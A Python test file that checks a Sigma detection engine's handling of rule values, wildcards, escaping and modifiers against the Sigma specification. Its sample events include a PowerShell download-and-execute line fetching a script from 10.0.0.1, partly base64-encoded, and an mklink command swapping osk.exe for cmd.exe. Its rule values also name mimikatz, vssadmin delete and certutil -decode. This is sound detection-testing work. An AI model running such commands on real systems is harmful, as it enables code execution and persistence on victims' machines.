"""Specification-level tests of Sigma detection semantics (values, modifiers, event shapes).

These tests are written against the Sigma specification, not against the engine:

* "Sigma Rules Specification" v2 (SigmaHQ/sigma-specification, specification/sigma-rules-specification.md),
  cited below as *Rules spec* with the section name;
* "Sigma Modifiers" appendix v2.1 (specification/sigma-appendix-modifiers.md), cited as *Modifiers
  appendix*.

Each test compiles a complete rule with :func:`autosoc.detect.sigma.testing.match` and checks it
against at least one event that must match and one that must not.  Condition-expression tests
(``and``/``or``/``not``, ``1 of``, ``them`` ...) live in ``test_sigma_conditions.py``.

YAML note: rule values are written in single-quoted YAML inside raw Python strings, so a backslash
in the test source is exactly the backslash the Sigma string parser sees.
"""

from __future__ import annotations

import base64
import ipaddress
import random
import textwrap
from pathlib import Path
from typing import Any

import pytest

from autosoc.errors import RuleError

# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------

RULE_ID = "5b0d3f5e-3c1f-4d8e-9a41-6a2f0c7e9b11"
PROC_CREATION = Path("rules") / "windows" / "process_creation"

EN_DASH = "\u2013"
EM_DASH = "\u2014"
HORIZONTAL_BAR = "\u2015"
ALL_DASHES = ["-", "/", EN_DASH, EM_DASH, HORIZONTAL_BAR]

Event = dict[str, Any]


def match(rule_yaml: str, events: list[Event], placeholders: dict[str, list[str]] | None = None) -> list:
    """The API under test, imported lazily so that this module collects before the engine exists.  It runs
    every case on each of the engine's evaluation paths and fails if they disagree."""
    from autosoc.detect.sigma.testing import match as engine_match

    return engine_match(rule_yaml, events, placeholders=placeholders)


def rule(detection: str) -> str:
    """A complete Sigma rule around ``detection`` (the body of the ``detection:`` map)."""
    body = textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ")
    return (
        "title: autosoc specification test\n"
        f"id: {RULE_ID}\n"
        "status: test\n"
        "logsource:\n"
        "    product: windows\n"
        "    category: process_creation\n"
        "detection:\n"
        f"{body}\n"
        "level: medium\n"
    )


def one(item: str) -> str:
    """A detection with a single selection made of the one detection item ``item``."""
    return f"selection:\n    {item}\ncondition: selection"


def run(detection: str, events: list[Event], placeholders: dict[str, list[str]] | None = None) -> list:
    flags = match(rule(detection), events, placeholders=placeholders)
    assert len(flags) == len(events), "match() must return one flag per event"
    return list(flags)


def field_events(name: str, values: list[Any]) -> list[Event]:
    """One event per value, each holding ``name`` plus an unrelated field."""
    return [{name: value, "Unrelated": "noise"} for value in values]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def evtx(event_id: int, channel: str = "Microsoft-Windows-Sysmon/Operational", **data: Any) -> Event:
    """An event in the evtx-JSON shape: System header plus EventData."""
    return {
        "Event": {
            "System": {"EventID": event_id, "Channel": channel, "Computer": "ws01.corp.local"},
            "EventData": dict(data),
        }
    }


# --------------------------------------------------------------------------------------------
# Plain values, lists and maps (Rules spec: "General", "Lists", "Maps")
# --------------------------------------------------------------------------------------------


def test_plain_value_is_whole_value_case_insensitive_equality():
    flags = run(
        one(r"Image: 'C:\Windows\System32\cmd.exe'"),
        field_events(
            "Image",
            [
                r"c:\windows\system32\CMD.EXE",  # case differs only
                r"C:\Windows\System32\cmd.exe.bak",  # longer: plain value is not a prefix match
                r"D:\C:\Windows\System32\cmd.exe",  # longer: plain value is not a suffix match
            ],
        ),
    )
    assert flags == [True, False, False]


@pytest.mark.parametrize(
    ("item", "matching", "non_matching"),
    [
        ("Image|cased: 'CMD.exe'", ["CMD.exe"], ["cmd.exe", "CMD.EXE"]),
        ("CommandLine|contains|cased: 'EncodedCommand'", ["x -EncodedCommand y"], ["x -encodedcommand y"]),
        ("CommandLine|cased|startswith: 'Get-'", ["Get-Process"], ["get-process", "GET-Process"]),
    ],
)
def test_cased_modifier_makes_matching_case_sensitive(item, matching, non_matching):
    # Modifiers appendix, "Generic Modifiers": `cased` applies values case sensitively.
    field = item.split("|", 1)[0]
    flags = run(one(item), field_events(field, matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


def test_values_in_a_list_are_or_linked():
    detection = r"""
    selection:
        Image|endswith:
            - '\cmd.exe'
            - '\powershell.exe'
    condition: selection
    """
    events = field_events("Image", [r"C:\x\cmd.exe", r"C:\x\POWERSHELL.EXE", r"C:\x\pwsh.exe"])
    assert run(detection, events) == [True, True, False]


def test_fields_in_a_map_are_and_linked():
    detection = r"""
    selection:
        Image|endswith: '\cmd.exe'
        User: 'SYSTEM'
    condition: selection
    """
    events = [
        {"Image": r"C:\x\cmd.exe", "User": "system"},
        {"Image": r"C:\x\cmd.exe", "User": "alice"},
        {"Image": r"C:\x\notepad.exe", "User": "SYSTEM"},
        {"Image": r"C:\x\cmd.exe"},
    ]
    assert run(detection, events) == [True, False, False, False]


def test_list_of_maps_is_or_linked_and_each_map_is_and_linked():
    detection = r"""
    selection:
        - Image|endswith: '\example.exe'
          User: 'bob'
        - Description|contains: 'Test executable'
    condition: selection
    """
    events = [
        {"Image": r"C:\x\example.exe", "User": "bob"},
        {"Image": r"C:\x\other.exe", "Description": "A test executable for QA"},
        {"Image": r"C:\x\example.exe", "User": "alice"},  # first map only half satisfied
        {"Image": r"C:\x\other.exe", "Description": "Notepad"},
    ]
    assert run(detection, events) == [True, True, False, False]


def test_same_field_with_two_modifiers_in_one_map_is_and_linked():
    detection = r"""
    selection:
        Image|startswith: 'C:\Users\'
        Image|endswith: '.exe'
    condition: selection
    """
    events = field_events("Image", [r"C:\Users\bob\a.exe", r"C:\Users\bob\a.dll", r"C:\Windows\a.exe"])
    assert run(detection, events) == [True, False, False]


def test_selections_on_the_same_field_with_different_modifiers():
    detection = r"""
    sel_powershell:
        CommandLine|contains: 'powershell'
    sel_script:
        CommandLine|endswith: '.ps1'
    sel_encoded:
        CommandLine|re: '\s-[Ee]nc(odedCommand)?\s'
    condition: sel_powershell and (sel_script or sel_encoded)
    """
    events = field_events(
        "CommandLine",
        [
            r"powershell.exe -File C:\x\run.PS1",
            "PowerShell.exe -enc SQBFAFgA",
            "powershell.exe -Command Get-Process",
            r"cmd.exe /c C:\x\run.ps1",
        ],
    )
    assert run(detection, events) == [True, True, False, False]


# --------------------------------------------------------------------------------------------
# Wildcards and escaping (Rules spec: "String Wildcard", "Escaping")
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "matching", "non_matching"),
    [
        ("'prog*.exe'", ["progA.exe", "PROG123.EXE", "prog.exe"], ["prog.dll", "xprog1.exe"]),
        ("'prog?.exe'", ["progA.exe", "PROG1.EXE"], ["prog.exe", "progAB.exe"]),
        ("'a*b?c'", ["ab_c", "aXYZbQc"], ["abc", "aXbQQc"]),
    ],
)
def test_wildcards_in_plain_values(value, matching, non_matching):
    # Rules spec, "String Wildcard": `?` is one mandatory character, `*` an unbounded (possibly
    # empty) sequence; wildcards anchor nothing else, the rest of the value must match exactly.
    flags = run(one(f"Name: {value}"), field_events("Name", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


def test_lone_star_matches_any_value_including_empty_but_not_a_missing_field():
    # `*` is "an unbounded length wildcard" (Rules spec, "String Wildcard"): zero characters
    # included.  It ranges over the field's value; a missing field has none.
    events = [{"Name": "anything"}, {"Name": ""}, {"Other": "x"}]
    assert run(one("Name: '*'"), events) == [True, True, False]


@pytest.mark.parametrize(
    ("value", "matching", "non_matching"),
    [
        # Rules spec, "Escaping": "A wildcard has to be escaped to be handled as a plain character".
        (r"'what\?'", ["what?", "WHAT?"], ["whatx", "what"]),
        (r"'a\*b'", ["a*b"], ["aXb", "ab", "aXYb"]),
        # 'C:\Windows\*' escapes the star: it is the literal text C:\Windows* and NOT a prefix match.
        (r"'C:\Windows\*'", [r"C:\Windows*"], [r"C:\Windows\System32\cmd.exe", r"C:\Windows\x"]),
        # "The backslash before a wildcard has to be escaped": '\\*' is a backslash then a wildcard.
        (
            r"'C:\Windows\\*'",
            [r"C:\Windows\System32\cmd.exe", "c:\\windows\\"],
            [r"C:\Windows*", r"C:\WindowsX"],
        ),
        # "Three backslashes are necessary to escape both": '\\\*' is a backslash then a literal star.
        (r"'C:\temp\\\*'", [r"C:\temp\*"], [r"C:\temp\file.txt", r"C:\temp*"]),
    ],
)
def test_escaped_wildcards_are_literal(value, matching, non_matching):
    flags = run(one(f"Path: {value}"), field_events("Path", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


@pytest.mark.parametrize(
    ("value", "matching", "non_matching"),
    [
        # Rules spec, "Escaping": a plain backslash not followed by a wildcard may be written as
        # `\` or `\\` -- both mean ONE backslash.
        (r"'C:\Windows\System32'", [r"C:\Windows\System32"], [r"C:\\Windows\\System32"]),
        (r"'C:\\Windows\\System32'", [r"C:\Windows\System32"], [r"C:\\Windows\\System32"]),
        # ... so '\\server\share' is \server\share, not a UNC path ...
        (r"'\\server\share'", [r"\server\share"], [r"\\server\share"]),
        # ... and "three or four backslashes are handled as double backslash".
        (r"'\\\\server\share'", [r"\\server\share"], [r"\server\share"]),
        (r"'\\\server\share'", [r"\\server\share"], [r"\server\share"]),
        # A trailing backslash is a plain backslash.
        ("'C:\\Temp\\'", ["C:\\Temp\\"], ["C:\\Temp"]),
    ],
)
def test_backslash_escaping(value, matching, non_matching):
    flags = run(one(f"Path: {value}"), field_events("Path", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


@pytest.mark.parametrize(
    ("value", "matching", "non_matching"),
    [
        ("'a.b'", ["a.b", "A.B"], ["axb"]),
        ("'f(x)'", ["f(x)"], ["fx", "f"]),
        ("'a+b'", ["a+b"], ["aab", "ab"]),
        ("'[ab]'", ["[AB]"], ["a", "b"]),
        ("'x{2}'", ["x{2}"], ["xx"]),
        ("'^a$'", ["^a$"], ["a"]),
        ("'a|b'", ["a|b"], ["a", "b"]),
    ],
)
def test_regex_metacharacters_in_plain_values_are_literal(value, matching, non_matching):
    flags = run(one(f"Name: {value}"), field_events("Name", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


# --------------------------------------------------------------------------------------------
# contains / startswith / endswith / all (Modifiers appendix, "Generic Modifiers")
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("modifier", "matching", "non_matching"),
    [
        ("contains", ["mimikatz", "x MIMIKATZ.exe y", "Mimikatz.exe"], ["mimi katz", "katz"]),
        ("startswith", ["mimikatz", "MIMIKATZ.exe"], ["x mimikatz", "mimi"]),
        ("endswith", ["mimikatz", r"C:\x\MimiKatz"], ["mimikatz.exe", "katz"]),
    ],
)
def test_substring_modifiers(modifier, matching, non_matching):
    flags = run(one(f"Name|{modifier}: 'mimikatz'"), field_events("Name", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


@pytest.mark.parametrize(
    ("item", "matching", "non_matching"),
    [
        ("Name|contains: 'foo*bar'", ["xxFOO123barxx", "foobar"], ["barfoo", "fo obar"]),
        ("Name|contains: 'a?c'", ["xxabcxx"], ["xxacxx"]),
        (
            r"Name|startswith: 'C:\Users\\*\AppData\Local\Temp\'",
            [r"C:\Users\bob\AppData\Local\Temp\x.exe"],
            [r"C:\Users\bob\Documents\x.exe", r"D:\Users\bob\AppData\Local\Temp\x.exe"],
        ),
        # endswith on a value that itself contains a wildcard.
        (
            r"Name|endswith: '\temp*.exe'",
            [r"C:\x\temp123.exe", r"C:\x\TEMP.exe"],
            [r"C:\x\temp123.exe.txt", r"C:\x\mytemp1.exe"],
        ),
        # An escaped star inside contains stays a literal star.
        (r"Name|contains: 'a\*b'", ["xa*bx"], ["xaZZbx", "xabx"]),
    ],
)
def test_wildcards_inside_modifier_values(item, matching, non_matching):
    flags = run(one(item), field_events("Name", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


def test_contains_all_requires_every_value():
    detection = r"""
    selection:
        CommandLine|contains|all:
            - 'mklink'
            - '\osk.exe'
            - '\cmd.exe'
    condition: selection
    """
    events = field_events(
        "CommandLine",
        [
            r"cmd /c MKLINK C:\Windows\System32\osk.exe C:\Windows\System32\cmd.exe",
            r"cmd /c C:\Windows\System32\cmd.exe mklink C:\Windows\System32\osk.exe",  # any order
            r"cmd /c mklink C:\Windows\System32\sethc.exe C:\Windows\System32\cmd.exe",  # one missing
        ],
    )
    assert run(detection, events) == [True, True, False]


def test_contains_without_all_is_any_value():
    detection = r"""
    selection:
        CommandLine|contains:
            - 'mklink'
            - '\osk.exe'
    condition: selection
    """
    events = field_events("CommandLine", ["mklink a b", r"copy C:\x\osk.exe", "dir"])
    assert run(detection, events) == [True, True, False]


def test_all_with_a_single_value_behaves_like_the_value():
    # Modifiers appendix discourages `all` on a single value (some backends cannot express it);
    # pySigma accepts it and the logical meaning is the single value itself.
    flags = run(
        one("CommandLine|contains|all: 'vssadmin'"), field_events("CommandLine", ["VSSADMIN delete", "wmic"])
    )
    assert flags == [True, False]


# --------------------------------------------------------------------------------------------
# Regular expressions (Modifiers appendix, "Regular Expression")
# --------------------------------------------------------------------------------------------


def test_regex_is_an_unanchored_search():
    flags = run(one("CommandLine|re: 'fo+bar'"), field_events("CommandLine", ["xx foooobar yy", "fobr"]))
    assert flags == [True, False]


def test_regex_anchors_are_honoured():
    flags = run(one("CommandLine|re: '^foo$'"), field_events("CommandLine", ["foo", "xfoo", "foox"]))
    assert flags == [True, False, False]


def test_regex_is_case_sensitive_by_default():
    # Modifiers appendix: "Regex is matched case-sensitive by default."
    flags = run(
        one("CommandLine|re: 'Invoke-[A-Z]'"),
        field_events("CommandLine", ["Invoke-Mimikatz", "invoke-mimikatz"]),
    )
    assert flags == [True, False]


def test_regex_i_flag_is_case_insensitive():
    flags = run(
        one("CommandLine|re|i: 'Invoke-[A-Z]'"),
        field_events("CommandLine", ["invoke-mimikatz", "Invoke-123"]),
    )
    assert flags == [True, False]


def test_regex_m_flag_makes_anchors_match_at_line_boundaries():
    events = field_events("Body", ["first\nsecond\nthird", "first second third"])
    assert run(one("Body|re: '^second$'"), events) == [False, False]
    assert run(one("Body|re|m: '^second$'"), events) == [True, False]


def test_regex_s_flag_lets_dot_match_newline():
    events = field_events("Body", ["begin\nend", "begin end", "begin"])
    assert run(one("Body|re: 'begin.end'"), events) == [False, True, False]
    assert run(one("Body|re|s: 'begin.end'"), events) == [True, True, False]


def test_regex_value_is_regex_syntax_not_sigma_wildcards():
    # In a `re` value `\\` is a regex-escaped backslash, `\.` a literal dot and `*` a quantifier;
    # Sigma's wildcard/escape rules do not apply.
    item = r"Image|re: '\\System32\\cmd\.exe$'"
    events = field_events("Image", [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\cmdXexe"])
    assert run(one(item), events) == [True, False]
    events = field_events("Name", ["aaab", "b", "a*b"])
    assert run(one("Name|re: '^a*b$'"), events) == [True, True, False]


def test_regex_unicode_classes_and_case_folding_are_the_rust_engines():
    # the engine's regex truth is Rust's (Polars), whichever path decides a value: Python's engine
    # stands in only on short ASCII values, Rust decides the rest (non-ASCII, long)
    events = field_events("CommandLine", ["-k \u00e9t\u00e9 x", "-k net", "-k \u0660x", "-k\u00a0net",
                                          "-k " + "w" * 5000, "-k -x"])
    assert run(one(r"CommandLine|re: '-k\s\w{1,64}'"), events) == [True, True, True, True, True, False]
    events = field_events("CommandLine", ["POWER\u017fHELL", "power\u0131shell", "POWERSHELL", "powershel"])
    assert run(one("CommandLine|re|i: 'powershell'"), events) == [True, False, True, False]
    events = field_events("CommandLine", ["line\n", "line", "\u00e9 line\n", "\u00e9 line"])
    assert run(one("CommandLine|re: 'line$'"), events) == [False, True, False, True]
    long_line = "cmd /c " + "a" * 3000 + " powershell x noexit y\""
    events = field_events("CommandLine", [long_line, long_line[:-1], "cmd /c powershell -noexit \""])
    flags = run(one(r"""CommandLine|re: 'cmd.{0,5}(?:/c|/r).+powershell.+(?:\$\{?input\}?|noexit).+"'"""), events)
    assert flags == [True, False, True]


# --------------------------------------------------------------------------------------------
# CIDR (Modifiers appendix, "IP Modifiers")
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("network", "matching", "non_matching"),
    [
        ("10.0.0.0/8", ["10.0.0.1", "10.255.255.255"], ["11.0.0.1", "110.0.0.1", "9.255.255.255"]),
        ("192.168.1.0/24", ["192.168.1.0", "192.168.1.254"], ["192.168.10.1", "192.168.2.1"]),
        # Prefix not on an octet boundary.
        ("172.16.0.0/12", ["172.16.0.1", "172.31.255.255"], ["172.32.0.1", "172.15.255.255"]),
        ("10.1.2.3/32", ["10.1.2.3"], ["10.1.2.30", "10.1.2.4"]),
    ],
)
def test_cidr_ipv4(network, matching, non_matching):
    flags = run(
        one(f"DestinationIp|cidr: '{network}'"), field_events("DestinationIp", matching + non_matching)
    )
    assert flags == [True] * len(matching) + [False] * len(non_matching)


@pytest.mark.parametrize(
    ("network", "matching", "non_matching"),
    [
        (
            "2001:db8::/32",
            # CIDR is network membership: upper-case and non-compressed spellings are the same address.
            ["2001:db8::1", "2001:DB8:FFFF::ABCD", "2001:0db8:0000:0000:0000:0000:0000:0001"],
            ["2001:db9::1", "::1", "10.0.0.1"],
        ),
        ("fe80::/10", ["fe80::1", "febf::1"], ["fec0::1", "fe7f::1"]),
        ("::1/128", ["::1"], ["::2"]),
    ],
)
def test_cidr_ipv6(network, matching, non_matching):
    flags = run(one(f"SourceIp|cidr: '{network}'"), field_events("SourceIp", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


def test_cidr_lists_agree_with_pythons_ipaddress():
    """OR-ed CIDR lists (merged IPv4 ranges; merged IPv6 ranges of the high half when every prefix has
    at most 64 bits, of the whole 128-bit address when one is longer) against ``ipaddress``
    membership, with and without longer prefixes in the list."""
    rng = random.Random(11)
    networks = ["10.0.0.0/8", "10.128.0.0/9", "11.0.0.0/8", "172.16.0.0/12", "192.168.1.0/24", "192.168.2.0/24",
                "1.2.3.4/32", "200.0.0.0/5", "::1/128", "fe80::/10", "fc00::/7", "2001:db8:0:1::/64",
                "2001:db8:0:2:8000::/65", "2a00:1450::/32", "2603:1000::/24",
                # adjacent, nested and top-half ranges: merged into one sorted search of the high half
                "2a00:1451::/32", "2a00:1450:4000::/36", "8000::/2", "c000::/3",
                # single addresses, adjacent ones (merged) and one in the top half of the space
                "2603:1063:2200::20/128", "2603:1063:2200::21/128", "2620:1ec:8f8::10/127", "ffff::1/128"]
    wide_only = [n for n in networks if ipaddress.ip_network(n).prefixlen <= 64 or ":" not in n]
    _check_cidr_list(networks, rng)
    _check_cidr_list(wide_only, rng)


def _check_cidr_list(networks: list[str], rng: random.Random) -> None:
    values = [".".join(str(rng.randrange(256)) for _ in range(4)) for _ in range(200)]
    values += [str(ipaddress.IPv6Address(rng.getrandbits(128))) for _ in range(100)]
    values += [str(ipaddress.ip_network(n).network_address) for n in networks]
    values += [str(ipaddress.ip_network(n).broadcast_address) for n in networks]
    values += [str(ipaddress.ip_network(n).network_address - 1) for n in networks if ":" in n]
    values += [str(ipaddress.ip_network(n).broadcast_address + 1) for n in networks
               if ":" in n and int(ipaddress.ip_network(n).broadcast_address) < (1 << 128) - 1]
    values += ["2001:db8:0:2:7fff:ffff:ffff:ffff", "2001:db8:0:2:8000::", "[fe80::1]", "fe80::1%eth0",
               "2A00:1450:4001::1", "::ffff:10.0.0.1", "9.255.255.255", "12.0.0.0", "not-an-ip", ""]
    listing = "\n".join(f"        - '{n}'" for n in networks)
    flags = run(f"selection:\n    DestinationIp|cidr:\n{listing}\ncondition: selection",
                field_events("DestinationIp", values))
    parsed = [ipaddress.ip_network(n) for n in networks]

    def member(value: str) -> bool:
        try:
            address = ipaddress.ip_address(value.strip().strip("[]").split("%")[0])
        except ValueError:
            return False
        return any(address.version == n.version and address in n for n in parsed)

    assert flags == [member(v) for v in values]


def test_cidr_non_ip_values_do_not_match_and_do_not_crash():
    values = ["10.0.0.1", "not-an-ip", "", "10.0.0", "10.0.0.256", 10, None, "10.0.0.1/zzz"]
    flags = run(one("DestinationIp|cidr: '10.0.0.0/8'"), field_events("DestinationIp", values))
    assert flags == [True] + [False] * (len(values) - 1)


# --------------------------------------------------------------------------------------------
# Encodings: base64, base64offset, wide / utf16le (Modifiers appendix, "Encoding")
# --------------------------------------------------------------------------------------------

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"
BENIGN_SCRIPT = r"Get-ChildItem -Path C:\Users | Select-Object Name"
# Leading text of 0..4 bytes shifts the needle through all three base64 alignments (twice).
PREFIXES = ["", "a", "ab", "abc", "abcd"]


def test_base64_matches_the_exact_encoding():
    # 'http://' base64-encodes to 'aHR0cDovLw=='; without `contains` the whole value must equal it.
    events = field_events("Payload", ["aHR0cDovLw==", "xxaHR0cDovLw==xx", b64(b"https://")])
    assert run(one("Payload|base64: 'http://'"), events) == [True, False, False]


def test_base64_contains():
    events = field_events("Payload", ["prefix aHR0cDovLw== suffix", b64(b"ftp://")])
    assert run(one("Payload|base64|contains: 'http://'"), events) == [True, False]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_base64offset_contains_finds_the_needle_at_every_alignment(prefix):
    # Modifiers appendix: base64offset yields the three shifted encodings of the value, so the
    # value is found wherever it sits in the encoded text.
    events = field_events(
        "CommandLine", [b64((prefix + SCRIPT).encode()), b64((prefix + BENIGN_SCRIPT).encode())]
    )
    assert run(one("CommandLine|base64offset|contains: 'DownloadString'"), events) == [True, False]


def test_base64offset_contains_needle_at_the_very_start():
    events = field_events("CommandLine", [b64(b"DownloadString"), b64(b"DownloadStrin")])
    assert run(one("CommandLine|base64offset|contains: 'DownloadString'"), events) == [True, False]


@pytest.mark.parametrize("encoding_modifier", ["wide", "utf16le"])
@pytest.mark.parametrize("prefix", PREFIXES)
def test_utf16le_base64offset_contains_matches_powershell_encoded_command(encoding_modifier, prefix):
    # PowerShell -EncodedCommand is base64 of UTF-16LE text.  Modifiers appendix, "Encoding":
    # `utf16le` transforms to UTF-16LE and `wide` is an alias for it.  (pySigma 1.5 only knows
    # `wide`; the spec name `utf16le` must behave identically.)
    encoded = b64((prefix + SCRIPT).encode("utf-16le"))
    events = field_events(
        "CommandLine",
        [
            f"powershell.exe -NoProfile -EncodedCommand {encoded}",
            f"powershell.exe -EncodedCommand {b64(BENIGN_SCRIPT.encode('utf-16le'))}",
            # The same script base64-encoded as UTF-8 is NOT a UTF-16LE match.
            f"powershell.exe -EncodedCommand {b64((prefix + SCRIPT).encode())}",
        ],
    )
    item = f"CommandLine|{encoding_modifier}|base64offset|contains: 'DownloadString'"
    assert run(one(item), events) == [True, False, False]


def test_plain_base64offset_does_not_match_utf16le_text():
    events = field_events("CommandLine", [b64(SCRIPT.encode()), b64(SCRIPT.encode("utf-16le"))])
    assert run(one("CommandLine|base64offset|contains: 'DownloadString'"), events) == [True, False]


# --------------------------------------------------------------------------------------------
# windash (Modifiers appendix, "String Modifiers")
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("modifiers", ["windash|contains", "contains|windash"])
@pytest.mark.parametrize("dash", ALL_DASHES, ids=["hyphen", "slash", "en_dash", "em_dash", "horizontal_bar"])
def test_windash_matches_every_dash_variant(modifiers, dash):
    events = field_events(
        "CommandLine",
        [
            f"certutil.exe {dash}decode in.b64 out.exe",
            "certutil.exe +decode in.b64 out.exe",
            "certutil.exe decode in.b64 out.exe",
        ],
    )
    assert run(one(f"CommandLine|{modifiers}: ' -decode '"), events) == [True, False, False]


@pytest.mark.parametrize("dash", ALL_DASHES, ids=["hyphen", "slash", "en_dash", "em_dash", "horizontal_bar"])
def test_windash_written_with_a_slash_also_matches_every_variant(dash):
    events = field_events("CommandLine", [f"net.exe user {dash}add", "net.exe user add"])
    assert run(one("CommandLine|windash|endswith: ' /add'"), events) == [True, False]


# --------------------------------------------------------------------------------------------
# exists, null and empty values (Rules spec: "Special Field Values", "Field Existence")
# --------------------------------------------------------------------------------------------


@pytest.mark.xfail(strict=True, reason="known deviation: a JSON null and a missing field are both a null cell in the "
                   "columnar batch, so exists cannot tell them apart (see README, Sigma support)")
def test_exists_true_checks_presence_only():
    # Modifiers appendix: exists "only verifies the presence of a field, not its value, be it
    # empty or null".
    events = [{"PasswordLastSet": "x"}, {"PasswordLastSet": ""}, {"PasswordLastSet": None}, {"Other": "x"}]
    assert run(one("PasswordLastSet|exists: true"), events) == [True, True, True, False]


@pytest.mark.xfail(strict=True, reason="known deviation: a JSON null and a missing field are both a null cell in the "
                   "columnar batch, so exists cannot tell them apart (see README, Sigma support)")
def test_exists_false_checks_absence():
    events = [{"PasswordLastSet": "x"}, {"PasswordLastSet": ""}, {"PasswordLastSet": None}, {"Other": "x"}]
    assert run(one("PasswordLastSet|exists: false"), events) == [False, False, False, True]


def test_exists_on_a_nested_field():
    events = [{"a": {"b": "x"}}, {"a": {"c": "x"}}, {"a": "b"}]
    assert run(one("a.b|exists: true"), events) == [True, False, False]


def test_null_matches_a_missing_field_and_json_null_only():
    events = [{"Other": "x"}, {"CommandLine": None}, {"CommandLine": ""}, {"CommandLine": "svchost.exe"}]
    assert run(one("CommandLine: null"), events) == [True, True, False, False]


def test_not_null_filter_from_the_specification():
    # Rules spec, "Special Field Values": a `not null` is a negated `null` selection.
    detection = """
    selection:
        EventID: 4738
    filter:
        PasswordLastSet: null
    condition: selection and not filter
    """
    events = [
        {"EventID": 4738, "PasswordLastSet": "2024-01-01"},
        {"EventID": 4738},
        {"EventID": 4738, "PasswordLastSet": None},
        {"EventID": 4624, "PasswordLastSet": "2024-01-01"},
    ]
    assert run(detection, events) == [True, False, False, False]


def test_empty_string_matches_only_the_empty_string():
    events = [
        {"Description": ""},
        {"Description": " "},
        {"Description": "x"},
        {"Description": None},
        {"Other": ""},
    ]
    assert run(one("Description: ''"), events) == [True, False, False, False, False]


# --------------------------------------------------------------------------------------------
# fieldref (Modifiers appendix, "Specific Modifiers")
# --------------------------------------------------------------------------------------------


def test_fieldref_compares_with_another_field_of_the_same_event():
    events = [
        {"TargetUserName": "bob", "SubjectUserName": "bob"},
        {"TargetUserName": "bob", "SubjectUserName": "alice"},
        {"TargetUserName": "bob", "SubjectUserName": "bobby"},  # equality, not prefix
        {"TargetUserName": "bob"},  # referenced field missing
    ]
    assert run(one("TargetUserName|fieldref: SubjectUserName"), events) == [True, False, False, False]


@pytest.mark.parametrize(
    ("modifiers", "matching", "non_matching"),
    [
        ("fieldref|startswith", r"C:\x\a.exe -arg", r'"C:\x\a.exe" -arg'),
        ("fieldref|endswith", r"D:\copy\C:\x\a.exe", r"C:\x\a.exe -arg"),
        ("fieldref|contains", r'"C:\x\a.exe" -arg', r"C:\x\b.exe"),
    ],
)
def test_fieldref_with_substring_modifiers(modifiers, matching, non_matching):
    image = r"C:\x\a.exe"
    events = [{"Image": image, "CommandLine": matching}, {"Image": image, "CommandLine": non_matching}]
    assert run(one(f"CommandLine|{modifiers}: Image"), events) == [True, False]


def test_fieldref_value_is_a_field_name_not_a_pattern():
    # The referenced field's value is compared as data: a `*` in it is not a wildcard.
    events = [{"A": "x*", "B": "x*"}, {"A": "xyz", "B": "x*"}]
    assert run(one("A|fieldref: B"), events) == [True, False]


# --------------------------------------------------------------------------------------------
# Numeric comparisons (Modifiers appendix, "Numeric Modifiers")
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("modifier", "value", "matching", "non_matching"),
    [
        ("lt", "10", [5, "5", "9", "9.5", -3], [10, "10", 11, "100"]),
        ("lte", "10", [10, "10", 9, "-1"], [11, "10.5", "100"]),
        ("gt", "10", [11, "11", "10.5", "100"], [10, "10", 9, "9"]),
        ("gte", "10", [10, "10", 100, "100"], [9, "9", "-10"]),
        ("gte", "0.5", [0.5, "0.75", 1], [0.25, "0"]),
    ],
)
def test_numeric_comparison(modifier, value, matching, non_matching):
    # Comparison is numeric, not lexicographic: "9" < 10 although "9" > "10" as text.
    flags = run(one(f"Count|{modifier}: {value}"), field_events("Count", matching + non_matching))
    assert flags == [True] * len(matching) + [False] * len(non_matching)


def test_numeric_comparison_ignores_non_numeric_values():
    values = [1, "abc", "", None, "1e", "0x10z"]
    flags = run(one("Count|gt: 0"), field_events("Count", values))
    assert flags == [True] + [False] * (len(values) - 1)


def test_neq_modifier():
    # Modifiers appendix, "Generic Modifiers": `neq` -- the field differs from the value.
    events = field_events("User", ["alice", "SYSTEM", "system"])
    assert run(one("User|neq: 'SYSTEM'"), events) == [True, False, False]


# --------------------------------------------------------------------------------------------
# Numbers and booleans as values ("All values are treated as case-insensitive strings")
# --------------------------------------------------------------------------------------------


def test_int_rule_value_matches_int_and_string_event_values():
    events = field_events("EventID", [4688, "4688", 4689, "04688", "4688 "])
    assert run(one("EventID: 4688"), events) == [True, True, False, False, False]


def test_int_rule_values_in_a_list():
    detection = """
    selection:
        EventID:
            - 1
            - 4688
    condition: selection
    """
    events = field_events("EventID", [1, "4688", 11, 468])
    assert run(detection, events) == [True, True, False, False]


def test_numeric_looking_string_with_leading_zeros_is_compared_as_text():
    events = field_events("Code", ["007", "7", 7, "0007"])
    assert run(one("Code: '007'"), events) == [True, False, False, False]
    assert run(one("Code: 7"), field_events("Code", [7, "7", "007"])) == [True, True, False]


def test_hex_looking_string_value():
    # Rules spec, "Maps" example: TicketEncryption: '0x17' (a string, compared case-insensitively).
    events = field_events("TicketEncryption", ["0x17", "0X17", 23, "0x170"])
    assert run(one("TicketEncryption: '0x17'"), events) == [True, True, False, False]


def test_bool_rule_value():
    events = field_events("Enabled", [True, "true", "True", False, "false", 1])
    assert run(one("Enabled: true"), events) == [True, True, True, False, False, False]


def test_string_modifiers_apply_to_the_text_of_int_event_values():
    events = field_events("EventID", [4688, 4624, 14688])
    assert run(one("EventID|startswith: '46'"), events) == [True, True, False]


# --------------------------------------------------------------------------------------------
# expand and placeholders (Rules spec, "Placeholders")
# --------------------------------------------------------------------------------------------


